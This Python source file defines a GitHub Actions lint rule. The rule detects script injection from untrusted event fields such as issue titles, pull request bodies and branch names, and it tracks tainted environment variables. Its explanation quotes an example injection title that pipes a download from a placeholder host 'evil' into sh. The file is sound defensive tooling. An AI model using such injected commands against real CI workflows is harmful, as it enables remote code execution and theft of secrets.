"""Text that a stranger wrote, pasted into a script."""

from __future__ import annotations

from collections.abc import Iterator

from workflows.lint import paths
from workflows.lint.document import Document, Expression
from workflows.lint.rule import Found, Options, Rule
from workflows.parser.read import entries, get
from workflows.parser.read import text as text_at
from workflows.source import Mapping, Node, Scalar

_PERSON = ("name", "email")
_COMMIT = ("message", *(f"{who}.{what}" for who in ("author", "committer") for what in _PERSON))
_PULL_REQUEST = ("title", "body", "head.ref", "head.label", "head.repo.default_branch", "head.repo.description")


def _below(path: str, *keys: str) -> list[str]:
    return [f"{path}.{key}" for key in keys]


#: What anybody can set who may open an issue or a pull request, or push to a fork.
UNTRUSTED: tuple[str, ...] = (
    "github.head_ref",
    *_below("github.event.issue", "title", "body"),
    *_below("github.event.discussion", "title", "body"),
    *_below("github.event.pull_request", *_PULL_REQUEST),
    *_below("github.event", "comment.body", "review.body", "review_comment.body"),
    *_below("github.event.pages.*", "page_name", "title"),
    *_below("github.event.commits.*", *_COMMIT),
    *_below("github.event.head_commit", *_COMMIT),
    *_below("github.event.workflow_run", "head_branch", "display_title", "head_repository.description"),
    *_below("github.event.workflow_run.head_commit", *_COMMIT),
    "github.event.workflow_run.pull_requests.*.head.ref",
    *_below("github.event", "check_suite.head_branch", "check_run.check_suite.head_branch"),
)
_UNTRUSTED = frozenset(tuple(path.split(".")) for path in UNTRUSTED)
_CONTAINING = frozenset(path[:length] for path in _UNTRUSTED for length in range(1, len(path)))
#: Inputs that an action takes for a program, by the action without its version.
SCRIPT_INPUTS = {
    "actions/github-script": ("script",),
    "azure/cli": ("inlinescript",),
    "azure/powershell": ("inlinescript",),
    "appleboy/ssh-action": ("script",),
    "nick-fields/retry": ("command",),
    "nick-invision/retry": ("command",),
    "reactivecircus/android-emulator-runner": ("script",),
}


def _check(document: Document, _: Options) -> Iterator[Found]:
    of_workflow = _tainted(document, document.root, frozenset())
    for job in document.jobs:
        of_job = _tainted(document, job.node, of_workflow)
        for step in job.steps:
            of_step = _tainted(document, step, of_job)
            for script in _scripts(step):
                for expression in document.expressions(script):
                    yield from _found(document, expression, of_step)


def _scripts(step: Mapping) -> Iterator[Scalar]:
    run, uses = step.get("run"), text_at(step.get("uses")) or ""
    if isinstance(run, Scalar):
        yield run
    names = SCRIPT_INPUTS.get(uses.partition("@")[0].lower(), ())
    for key, value in entries(step.get("with")):
        if key.text.lower() in names and isinstance(value, Scalar):
            yield value


def _tainted(document: Document, holder: Node, outer: frozenset[str]) -> frozenset[str]:
    """The names of environment variables that hold a stranger's text."""
    names = set(outer)
    for key, value in entries(get(holder, "env")):
        names.discard(key.text.lower())
        if any(True for each in document.expressions(value) for _ in _untrusted(each, outer)):
            names.add(key.text.lower())
    return frozenset(names)


def _untrusted(expression: Expression, names: frozenset[str]) -> Iterator[paths.Path]:
    for path, whole in paths.shown_paths(expression.tree):
        if path[0] == "env":
            if len(path) == 2 and path[1] in names:
                yield path
        elif path in _UNTRUSTED or (whole and path in _CONTAINING):
            yield path


def _found(document: Document, expression: Expression, names: frozenset[str]) -> Iterator[Found]:
    for path in _untrusted(expression, names):
        position = document.place(expression, path)
        said = ".".join(path)
        if path[0] == "env":
            message = f"'{said}' holds text that anybody can write; use the variable of the shell, ${path[1].upper()}"
        else:
            message = f"'{said}' is text that anybody can write; give it to the script through 'env'"
        yield Found(position, message)


RULES = (
    Rule(
        "untrusted-input",
        "text of a title, a body, a branch, a commit or a comment that an expression pastes into a script",
        'The script is put together before the shell reads it, so a title such as `"; curl evil | sh; "` is run.'
        " Put the text into `env` and let the script read the variable. What only compares (`==`, `contains`) is"
        " let through. Scripts are `run`, and the inputs of actions that run one, as `actions/github-script`.",
        """\
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }}"
""",
        _check,
    ),
)
